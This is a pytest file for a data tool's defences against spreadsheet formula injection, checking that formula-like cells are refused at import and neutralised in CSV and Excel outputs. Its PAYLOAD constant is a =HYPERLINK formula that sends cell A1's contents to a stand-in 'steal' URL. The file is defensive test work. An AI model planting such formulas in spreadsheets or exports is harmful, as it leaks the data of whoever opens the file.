"""Spreadsheet formula injection: refused at import unless allowed, neutralised in CSV and Excel outputs.

Before: the long format stored cells such as ``=HYPERLINK(...)`` verbatim, and they reached CSV and Excel outputs,
where a spreadsheet runs them.
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from _util import run_cli
from clusterplan._formula import neutralise, neutralise_frame
from clusterplan.cli._common import write_csv_or_parquet
from clusterplan.report._xlsx import XlsxBook
from clusterplan.report.workbook import _write_rows

PAYLOAD = '=HYPERLINK("http://example.invalid/steal?x="&A1,"Open")'


def long_file(tmp_path: Path) -> Path:
    path = tmp_path / "long.csv"
    frame = pd.DataFrame(
        {
            "area_code": ["TLG3", "TLG3"],
            "industry_code": ["29100", PAYLOAD],
            "year": [2021, 2021],
            "measure": ["employment", "employment"],
            "value": [100, 5],
        }
    )
    frame.to_csv(path, index=False)
    return path


def test_import_refuses_formula_codes_unless_allowed(tmp_path: Path, fresh_warehouse: Path) -> None:
    args = ("data", "import", str(long_file(tmp_path)), "--format", "long", "--warehouse", str(fresh_warehouse))
    refused = run_cli(*args)
    assert refused.returncode == 2
    assert "row 2, column 'industry_code': the cell starts with '='" in refused.stderr
    assert "http" not in refused.stderr  # the payload is not echoed
    allowed = run_cli(*args, "--allow-formula-codes", "--allow-unknown-codes")
    assert allowed.returncode == 0, allowed.stderr
    assert "imported 2 rows" in allowed.stdout


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_owasp_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(start + "1+1") == "'" + start + "1+1"


def test_numbers_and_ordinary_text_are_left_alone() -> None:
    frame = pd.DataFrame({"cluster": ["Logistics", "−1 below"], "lq": [-1.5, 2.0]})
    assert neutralise_frame(frame) is frame


def test_csv_output_neutralises_formula_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"industry_code": ["29100", PAYLOAD], "value": [-3.0, 4.0]})
    path = write_csv_or_parquet(frame, tmp_path / "out.csv")
    back = pd.read_csv(path, dtype=str)
    assert back["industry_code"].tolist() == ["29100", "'" + PAYLOAD]
    assert back["value"].tolist() == ["-3", "4"]  # negative numbers are numbers, not formulas


def test_workbook_stores_formula_text_as_text(tmp_path: Path) -> None:
    book = XlsxBook()
    _write_rows(book, "Notes", ["Topic", "Note"], [["code", PAYLOAD], ["sum", "=1+1"]], [20, 40])
    path = tmp_path / "book.xlsx"
    book.save(path)
    sheet = openpyxl.load_workbook(path)["Notes"]
    cells = [sheet.cell(row=r, column=2) for r in (2, 3)]
    assert [c.value for c in cells] == ["'" + PAYLOAD, "'=1+1"]
    assert all(c.data_type == "s" for c in cells)
